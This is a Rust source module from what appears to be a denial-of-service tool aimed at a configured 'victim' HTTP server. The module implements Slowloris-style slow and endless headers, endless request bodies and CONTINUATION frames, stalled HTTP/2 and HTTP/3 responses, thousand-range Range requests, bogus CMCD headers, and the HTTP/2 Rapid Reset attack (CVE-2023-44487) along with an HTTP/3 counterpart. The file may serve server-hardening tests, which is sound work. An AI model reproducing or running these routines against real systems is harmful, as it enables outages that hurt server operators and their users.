//! Connections of HTTP clients that request nothing, request too much, or send without end.

use std::fmt::Write as _;
use std::future::pending;
use std::io;
use std::time::Duration;

use quinn::VarInt;
use tokio::io::{AsyncRead, AsyncWrite, AsyncWriteExt, WriteHalf};
use tokio::time::sleep;

use super::{Force, HTTP_1, HTTP_2};
use crate::wire::{H3_DATA, H3_HEADERS, Head, h2, h2_frame, h3_frame, h3_frame_head};

/// Time between PINGs, or requests, on a connection.
const EVERY: Duration = Duration::from_secs(5);
/// Bytes sent at a time: HTTP/2's frames have no more by default.
const PIECE: usize = 16 << 10;
/// Declared length in bytes of an endless HTTP/3 HEADERS frame.
const ANNOUNCED: u64 = 1 << 30;
/// Declared length in bytes of a slow one.
const ANNOUNCED_SLOWLY: u64 = 10_000;
/// Ranges in one request.
const RANGES: u64 = 1_000;
/// Unread responses on each connection.
const RESPONSES: u32 = 100;
/// Bytes of all responses that the client of an HTTP/3 connection takes before it stalls.
const WINDOW: u32 = 100_000;
/// `CANCEL` (RFC 9113 §7).
const CANCEL: u32 = 8;
/// `H3_REQUEST_CANCELLED` (RFC 9114 §8.1).
const REQUEST_CANCELLED: VarInt = VarInt::from_u32(0x010c);

/// A PING of HTTP/2.
fn ping() -> Vec<u8> {
    h2_frame(h2::PING, 0, 0, &[7; 8])
}

/// A request for the title.
fn get_title(force: &Force) -> Head {
    Head::get(force.victim.title.as_str())
}

pub(super) async fn idle_tcp(force: &Force, number: usize) -> io::Result<()> {
    force.act().await;
    let stream = force.tcp(number).await?;
    let _open = force.tally.open();
    force.drain(stream).await
}

pub(super) async fn idle_tls(force: &Force, number: usize) -> io::Result<()> {
    force.act().await;
    let protocol = [HTTP_1, HTTP_2][number % 2];
    let stream = force.tls(number, protocol).await?;
    let _open = force.tally.open();
    force.drain(stream).await
}

pub(super) async fn pings(force: &Force, number: usize) -> io::Result<()> {
    force.act().await;
    let pings = async |writing: &mut WriteHalf<_>| loop {
        writing.write_all(&ping()).await?;
        sleep(EVERY).await;
    };
    force.over_tls(number, HTTP_2, pings).await
}

pub(super) async fn few_requests(force: &Force, number: usize) -> io::Result<()> {
    force.act().await;
    // Each address has both.
    let over_quic = !(number / force.scale.addresses).is_multiple_of(2);
    let head = |_| Head::new("HEAD", force.victim.title.as_str());
    force.requests(number, over_quic, Some(EVERY), head).await
}

/// Many small ranges, far enough apart that none can be joined, and single bytes.
pub(super) async fn ranges(force: &Force, number: usize) -> io::Result<()> {
    let head = |turn: u64| {
        let mut ranges = format!("bytes={turn}-{turn}");
        if turn.is_multiple_of(2) {
            for range in 1..RANGES {
                let _ = write!(ranges, ",{0}-{0}", 3 * range);
            }
        }
        get_title(force).with("range", &ranges)
    };
    force.requests(number, number.is_multiple_of(2), None, head).await
}

/// Contradictory reports, each from a different session.
pub(super) async fn false_cmcd(force: &Force, number: usize) -> io::Result<()> {
    let head = |turn: u64| {
        let (rate, buffer) =
            [(1, 0), (u32::MAX, 100), (4_000, u32::MAX)][usize::try_from(turn % 3).unwrap_or(0)];
        get_title(force)
            .with("range", "bytes=0-0")
            .with("cmcd-object", &format!("br={rate},d=1,ot=v,tb=1"))
            .with("cmcd-request", &format!("bl={buffer},dl=1,mtp=100,su"))
            .with("cmcd-session", &format!("sid=\"{number}-{turn}\",st=v,sf=d,pr=2"))
            .with("cmcd-status", "bs,rtp=1")
    };
    force.requests(number, true, None, head).await
}

pub(super) async fn stalled_http3(force: &Force, number: usize) -> io::Result<()> {
    // Without this window, the server would first fill 1.25 MB per response: a download and not a stall.
    let stalling = |transport: &mut quinn::TransportConfig| {
        transport.receive_window(VarInt::from_u32(WINDOW));
    };
    let connection = force.quic(number, stalling).await?;
    let _open = force.tally.open();
    let mut responses = Vec::new();
    for _ in 0..RESPONSES {
        force.act().await;
        responses.push(force.request(&connection, &get_title(force)).await?);
    }
    Err(connection.closed().await.into())
}

pub(super) async fn stalled_http2(force: &Force, number: usize) -> io::Result<()> {
    let mut stream = force.tls(number, HTTP_2).await?;
    let _open = force.tally.open();
    stream.write_all(&h2::start()).await?;
    for number in 0..RESPONSES {
        force.act().await;
        stream
            .write_all(&get_title(force).http2(2 * number + 1, true))
            .await?;
    }
    // A PING fails once the server has closed the connection.
    loop {
        sleep(EVERY).await;
        stream.write_all(&ping()).await?;
    }
}

/// CVE-2023-44487: as fast as the rate allows, without regard to the limit of concurrent streams. The requests cause
/// work for the server, and their responses never count towards that limit.
pub(super) async fn reset_http2(force: &Force, number: usize) -> io::Result<()> {
    let requests = async |writing: &mut WriteHalf<_>| {
        for stream in (1..u32::MAX >> 1).step_by(2) {
            force.act().await;
            let reset = h2_frame(h2::RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            let request = get_title(force).http2(stream, true);
            writing.write_all(&[request, reset].concat()).await?;
        }
        Ok(())
    };
    force.over_tls(number, HTTP_2, requests).await
}

pub(super) async fn reset_http3(force: &Force, number: usize) -> io::Result<()> {
    let connection = force.quic(number, |_| {}).await?;
    let _open = force.tally.open();
    let head = get_title(force).http3();
    for turn in 0_u64.. {
        force.act().await;
        let (mut sending, mut receiving) = connection.open_bi().await?;
        sending.write_all(&head).await?;
        // Alternates between resets before the end of the request and refusals of the response.
        if turn.is_multiple_of(2) {
            sending.reset(REQUEST_CANCELLED).map_err(io::Error::other)?;
        } else {
            sending.finish().map_err(io::Error::other)?;
        }
        receiving.stop(REQUEST_CANCELLED).map_err(io::Error::other)?;
    }
    Ok(())
}

/// Heads that arrive a byte at a time.
pub(super) async fn slow_heads(force: &Force, number: usize) -> io::Result<()> {
    if !number.is_multiple_of(2) {
        let begin = h3_frame_head(H3_HEADERS, ANNOUNCED_SLOWLY);
        return endless_over_quic(force, number, &begin, b"x").await;
    }
    let bytes = async |writing: &mut WriteHalf<_>| {
        let text = get_title(force).http1();
        // Without the empty line, followed by one endless field.
        for byte in text[..text.len() - 2].iter().chain(std::iter::repeat(&b'x')) {
            force.act().await;
            writing.write_all(&[*byte]).await?;
            writing.flush().await?;
        }
        Ok(())
    };
    force.over_tls(number, HTTP_1, bytes).await
}

pub(super) async fn endless_heads(force: &Force, number: usize) -> io::Result<()> {
    match number % 3 {
        0 => {
            let headers = h2_frame(h2::HEADERS, h2::END_STREAM, 1, &Head::get("/").hpack());
            // The field `x: y` of HPACK, a literal that is not indexed (RFC 7541 §6.2.2), again and again.
            let fields = [0x00, 0x01, b'x', 0x01, b'y'].repeat(PIECE / 5);
            let fields = h2_frame(h2::CONTINUATION, 0, 1, &fields);
            endless_over_tls(force, number, HTTP_2, &[h2::start(), headers].concat(), &fields).await
        }
        1 => {
            let field = [b"x: ".as_slice(), &[b'y'; 1_000], b"\r\n"].concat();
            let begin = b"GET / HTTP/1.1\r\nhost: localhost\r\n";
            endless_over_tls(force, number, HTTP_1, begin, &field).await
        }
        _ => endless_over_quic(force, number, &h3_frame_head(H3_HEADERS, ANNOUNCED), &[0; PIECE]).await,
    }
}

pub(super) async fn endless_content(force: &Force, number: usize) -> io::Result<()> {
    let head = Head::new("POST", force.victim.title.as_str());
    let content = vec![b'x'; PIECE];
    match number % 3 {
        0 => {
            let begin = [h2::start(), head.http2(1, false)].concat();
            endless_over_tls(force, number, HTTP_2, &begin, &h2_frame(h2::DATA, 0, 1, &content)).await
        }
        1 => {
            let begin = head.with("transfer-encoding", "chunked").http1();
            let chunk = [format!("{PIECE:x}\r\n").as_bytes(), &content, b"\r\n"].concat();
            endless_over_tls(force, number, HTTP_1, &begin, &chunk).await
        }
        _ => endless_over_quic(force, number, &head.http3(), &h3_frame(H3_DATA, &content)).await,
    }
}

/// Sends `begin`, and then `piece` endlessly.
async fn endless_over_tls(
    force: &Force,
    number: usize,
    protocol: &[u8],
    begin: &[u8],
    piece: &[u8],
) -> io::Result<()> {
    let stream = force.tls(number, protocol).await?;
    let _open = force.tally.open();
    let (reading, writing) = tokio::io::split(stream);
    endless(force, (reading, writing), begin, piece).await
}

async fn endless_over_quic(force: &Force, number: usize, begin: &[u8], piece: &[u8]) -> io::Result<()> {
    let connection = force.quic(number, |_| {}).await?;
    let _open = force.tally.open();
    let (writing, reading) = connection.open_bi().await?;
    endless(force, (reading, writing), begin, piece).await
}

async fn endless(
    force: &Force,
    (reading, mut writing): (impl AsyncRead + Unpin, impl AsyncWrite + Unpin),
    begin: &[u8],
    piece: &[u8],
) -> io::Result<()> {
    let sending = async {
        writing.write_all(begin).await?;
        loop {
            force.act().await;
            writing.write_all(piece).await?;
        }
    };
    let receiving = async {
        force.drain(reading).await?;
        // The server has answered; an attacker goes on.
        pending().await
    };
    tokio::select! {
        biased;
        ended = receiving => ended,
        failed = sending => failed,
    }
}
